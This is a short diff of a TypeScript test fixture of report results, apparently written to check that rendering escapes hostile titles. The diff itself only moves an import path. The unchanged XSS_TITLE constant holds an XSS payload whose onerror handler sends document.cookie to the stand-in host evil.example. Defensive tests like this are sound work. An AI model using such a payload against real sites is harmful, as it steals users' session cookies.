@@ -1,5 +1,5 @@
 /** Report results to render: a year-long history with a gap and hostile titles, and a video list. */
-import type { ReportResult } from '../../shared/reports/types.ts';
+import type { ReportResult } from '../../shared/report-result/types.ts';
 
 export const XSS_TITLE = `<img src=x onerror="fetch('https://evil.example/'+document.cookie)"><script>alert(1)</script> & "quotes" 'single'`;
 
